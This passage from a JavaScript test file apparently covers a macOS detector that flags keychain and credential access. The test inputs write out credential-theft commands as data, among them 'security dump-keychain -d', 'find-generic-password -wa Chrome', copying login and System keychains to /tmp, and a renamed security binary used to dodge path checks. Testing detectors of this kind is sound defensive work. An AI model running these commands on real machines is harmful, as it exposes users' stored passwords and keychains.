    assert.deepEqual(names({ exe: '/usr/bin/curl', args: ['curl', '-o', '/tmp/k', 'FILE:///Users/alice/Library/Keychains/login.keychain-db'] }), [ANY]);
  });

  it('QA D5: a renamed copy of security is judged by its signing identifier', () => {
    assert.deepEqual(names({ exe: '/tmp/s', sig: 'apple:com.apple.security', args: ['s', 'find-generic-password', '-wa', 'Chrome'] }), [SECURITY]);
    assert.deepEqual(names({ exe: '/tmp/s', sig: 'apple:com.apple.security', args: ['s', 'dump-keychain', '-d'] }), [SECURITY]);
    assert.deepEqual(names({ exe: '/tmp/s', sig: 'apple:com.apple.s', args: ['s', 'dump-keychain', '-d'] }), [], 'another tool that takes a dump-keychain word');
    // The verb exclusion still needs /usr/bin/security itself.
    assert.deepEqual(names({ exe: '/tmp/s', sig: 'apple:com.apple.security', args: ['s', 'import', '/Users/alice/Library/Keychains/login.keychain-db'] }), [ANY]);
  });

  it("Apple's read-only trust stores under /System/Library/Keychains are not credentials; /Library/Keychains/System.keychain is", () => {
    assert.deepEqual(names({ exe: '/bin/cp', args: ['cp', '/System/Library/Keychains/SystemRootCertificates.keychain', '/tmp'] }), []);
    assert.deepEqual(names({ exe: '/bin/cp', args: ['cp', '/System/Library/Keychains/SystemRootCertificates.keychain', '/Library/Keychains/System.keychain', '/tmp'] }), [ANY]);
    assert.deepEqual(names({ exe: '/bin/cp', args: ['cp', '/Library/Keychains/System.keychain', '/tmp'] }), [ANY]);
  });

  it('reads security verbs as the subcommand, not as any argument', () => {
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', 'dump-keychain'] }), [SECURITY]);
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', 'find-generic-password', '-ga', 'Chrome'] }), [SECURITY]);
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', 'find-generic-password', '-s', 'AC_PASSWORD', '-w'] }), []);
    assert.deepEqual(names({ exe: '/usr/bin/security', args: ['security', 'find-certificate', '-c', 'dump-keychain'] }), []);
  });
});
